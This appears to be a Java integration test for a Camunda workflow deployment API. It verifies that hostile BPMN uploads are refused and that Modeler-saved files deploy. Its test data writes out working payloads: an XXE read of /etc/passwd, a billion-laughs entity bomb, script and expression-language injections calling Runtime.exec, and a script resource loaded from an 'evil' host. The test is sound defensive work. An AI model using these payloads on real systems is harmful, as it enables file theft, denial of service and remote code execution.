package io.salesflow.process.deployment;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.salesflow.support.Api;
import io.salesflow.support.IntegrationTest;
import io.salesflow.support.Multipart;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.UUID;
import org.camunda.bpm.engine.RepositoryService;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * Deploying through the API as ops: hostile files are refused with file, element and reason and leave nothing
 * behind (no deployment, no definition, no side effect); files as Camunda Modeler 5 saves them deploy, with or
 * without a history time to live.
 */
@IntegrationTest
class DeploymentApiTest {

    private static final String OPS = "ops@acme.test";

    @Autowired
    Api api;

    @Autowired
    RepositoryService repository;

    @TempDir
    Path dir;

    private Api.Response deploy(String name, String content) {
        return api.as("acme", OPS, "POST", "/api/v1/deployments")
                .multipart(
                        new Multipart().file("file", name, "application/xml", content.getBytes(StandardCharsets.UTF_8)))
                .send();
    }

    private long deployments() {
        return repository.createDeploymentQuery().tenantIdIn("acme").count();
    }

    static String process(String key, String body) {
        return """
                <?xml version="1.0" encoding="UTF-8"?>
                <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
                    xmlns:camunda="http://camunda.org/schema/1.0/bpmn"
                    xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
                    id="Definitions_1" targetNamespace="http://bpmn.io/schema/bpmn">
                  <bpmn:process id="%s" isExecutable="true" camunda:historyTimeToLive="30">
                    <bpmn:startEvent id="StartEvent_1"><bpmn:outgoing>Flow_1</bpmn:outgoing></bpmn:startEvent>
                %s
                  </bpmn:process>
                </bpmn:definitions>
                """
                .formatted(key, body);
    }

    @Test
    void hostileFilesAreRefusedWithTheirReasonAndLeaveNothingBehind() {
        Path marker = dir.resolve("pwned");
        String touch = "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('touch "
                + marker + "')}";
        Map<String, String> hostile = Map.of(
                "xxe.bpmn",
                "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                        + process("xxe", "<bpmn:endEvent id=\"End\" name=\"&x;\"/>")
                                .substring(22),
                "laughs.bpmn",
                "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">"
                        + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>"
                        + process("laughs", "<bpmn:endEvent id=\"End\" name=\"&c;\"/>")
                                .substring(22),
                "script.bpmn",
                process(
                        "script",
                        "<bpmn:scriptTask id=\"Script\" scriptFormat=\"groovy\"><bpmn:script>'touch'.execute()"
                                + "</bpmn:script></bpmn:scriptTask>"),
                "class.bpmn",
                process("klass", "<bpmn:serviceTask id=\"Task\" camunda:class=\"java.lang.ProcessBuilder\"/>"),
                "resource.bpmn",
                process(
                        "resource",
                        "<bpmn:task id=\"Task\"><bpmn:extensionElements><camunda:executionListener event=\"start\">"
                                + "<camunda:script scriptFormat=\"javascript\" resource=\"http://evil/x.js\"/>"
                                + "</camunda:executionListener></bpmn:extensionElements></bpmn:task>"),
                "condition.bpmn",
                process(
                        "condition",
                        "<bpmn:exclusiveGateway id=\"Gateway\"/><bpmn:endEvent id=\"End\"/>"
                                + "<bpmn:sequenceFlow id=\"Flow_Evil\" sourceRef=\"Gateway\" targetRef=\"End\">"
                                + "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\">" + touch
                                + "</bpmn:conditionExpression></bpmn:sequenceFlow>"),
                "datasource.bpmn",
                process(
                        "datasource",
                        "<bpmn:serviceTask id=\"Task_Data\" camunda:delegateExpression=\"${dataSource}\"/>"));
        long before = deployments();

        for (Map.Entry<String, String> file : hostile.entrySet()) {
            JsonNode problem =
                    deploy(file.getKey(), file.getValue()).expect(422).json();
            assertThat(problem.get("type").asText()).endsWith("model-refused");
            JsonNode refusal = problem.get("refusals").get(0);
            assertThat(refusal.get("file").asText()).as(file.getKey()).isEqualTo(file.getKey());
            assertThat(refusal.get("reason").asText()).as(file.getKey()).isNotBlank();
        }

        assertThat(deployments()).isEqualTo(before);
        assertThat(repository
                        .createProcessDefinitionQuery()
                        .processDefinitionKeyIn(
                                "xxe", "laughs", "script", "klass", "resource", "condition", "datasource")
                        .count())
                .isZero();
        assertThat(Files.exists(marker)).isFalse();
    }

    @Test
    void oneRefusedFileKeepsTheWholeDeploymentOut() {
        long before = deployments();
        String good = process("good-" + UUID.randomUUID(), "<bpmn:endEvent id=\"End\"/>");
        String bad =
                process("bad", "<bpmn:serviceTask id=\"Task_Data\" camunda:delegateExpression=\"${dataSource}\"/>");

        JsonNode problem = api.as("acme", OPS, "POST", "/api/v1/deployments")
                .multipart(new Multipart()
                        .file("file", "good.bpmn", "application/xml", good.getBytes(StandardCharsets.UTF_8))
                        .file("file", "bad.bpmn", "application/xml", bad.getBytes(StandardCharsets.UTF_8)))
                .send()
                .expect(422)
                .json();

        assertThat(problem.get("refusals").get(0).get("elementId").asText()).isEqualTo("Task_Data");
        assertThat(deployments()).isEqualTo(before);
    }

    @Test
    void filesAsCamundaModeler5SavesThemDeployWithOrWithoutAHistoryTimeToLive() {
        String key = "modeler-" + UUID.randomUUID().toString().substring(0, 8);
        JsonNode deployed = deploy("with-ttl.bpmn", modelerFile(key + "-a", "camunda:historyTimeToLive=\"180\""))
                .expect(201)
                .json();
        assertThat(deployed.get("definitions").get(0).get("key").asText()).isEqualTo(key + "-a");

        deploy("without-ttl.bpmn", modelerFile(key + "-b", "")).expect(201);
        assertThat(repository
                        .createProcessDefinitionQuery()
                        .processDefinitionKey(key + "-b")
                        .tenantIdIn("acme")
                        .singleResult()
                        .getHistoryTimeToLive())
                .as("the engine's default applies")
                .isEqualTo(180);

        JsonNode again = deploy("with-ttl.bpmn", modelerFile(key + "-a", "camunda:historyTimeToLive=\"180\""))
                .expect(201)
                .json();
        assertThat(again.get("definitions"))
                .as("an unchanged file makes no new version")
                .isEmpty();
    }

    @Test
    void aRepCannotDeploy() {
        api.as("acme", "rep@acme.test", "POST", "/api/v1/deployments")
                .multipart(new Multipart()
                        .file(
                                "file",
                                "x.bpmn",
                                "application/xml",
                                process("x", "<bpmn:endEvent id=\"End\"/>").getBytes(StandardCharsets.UTF_8)))
                .send()
                .expect(403);
    }

    /** A process as Camunda Modeler 5.x saves it: its namespaces, exporter, execution platform and diagram. */
    static String modelerFile(String key, String ttl) {
        return """
                <?xml version="1.0" encoding="UTF-8"?>
                <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" xmlns:dc="http://www.omg.org/spec/DD/20100524/DC" xmlns:camunda="http://camunda.org/schema/1.0/bpmn" xmlns:di="http://www.omg.org/spec/DD/20100524/DI" xmlns:modeler="http://camunda.org/schema/modeler/1.0" id="Definitions_0x1y2z" targetNamespace="http://bpmn.io/schema/bpmn" exporter="Camunda Modeler" exporterVersion="5.31.0" modeler:executionPlatform="Camunda Platform" modeler:executionPlatformVersion="7.22.0">
                  <bpmn:process id="%s" name="Call back" isExecutable="true" %s>
                    <bpmn:startEvent id="StartEvent_1">
                      <bpmn:outgoing>Flow_0a1b2c3</bpmn:outgoing>
                    </bpmn:startEvent>
                    <bpmn:userTask id="Activity_1x2y3z4" name="Call back" camunda:assignee="${ownerId}">
                      <bpmn:incoming>Flow_0a1b2c3</bpmn:incoming>
                      <bpmn:outgoing>Flow_1d2e3f4</bpmn:outgoing>
                    </bpmn:userTask>
                    <bpmn:endEvent id="Event_0g5h6i7">
                      <bpmn:incoming>Flow_1d2e3f4</bpmn:incoming>
                    </bpmn:endEvent>
                    <bpmn:sequenceFlow id="Flow_0a1b2c3" sourceRef="StartEvent_1" targetRef="Activity_1x2y3z4" />
                    <bpmn:sequenceFlow id="Flow_1d2e3f4" sourceRef="Activity_1x2y3z4" targetRef="Event_0g5h6i7" />
                  </bpmn:process>
                  <bpmndi:BPMNDiagram id="BPMNDiagram_1">
                    <bpmndi:BPMNPlane id="BPMNPlane_1" bpmnElement="%s">
                      <bpmndi:BPMNShape id="_BPMNShape_StartEvent_2" bpmnElement="StartEvent_1">
                        <dc:Bounds x="179" y="99" width="36" height="36" />
                      </bpmndi:BPMNShape>
                      <bpmndi:BPMNShape id="Activity_1x2y3z4_di" bpmnElement="Activity_1x2y3z4">
                        <dc:Bounds x="270" y="77" width="100" height="80" />
                      </bpmndi:BPMNShape>
                      <bpmndi:BPMNShape id="Event_0g5h6i7_di" bpmnElement="Event_0g5h6i7">
                        <dc:Bounds x="432" y="99" width="36" height="36" />
                      </bpmndi:BPMNShape>
                      <bpmndi:BPMNEdge id="Flow_0a1b2c3_di" bpmnElement="Flow_0a1b2c3">
                        <di:waypoint x="215" y="117" />
                        <di:waypoint x="270" y="117" />
                      </bpmndi:BPMNEdge>
                      <bpmndi:BPMNEdge id="Flow_1d2e3f4_di" bpmnElement="Flow_1d2e3f4">
                        <di:waypoint x="370" y="117" />
                        <di:waypoint x="432" y="117" />
                      </bpmndi:BPMNEdge>
                    </bpmndi:BPMNPlane>
                  </bpmndi:BPMNDiagram>
                </bpmn:definitions>
                """
                .formatted(key, ttl, key);
    }
}
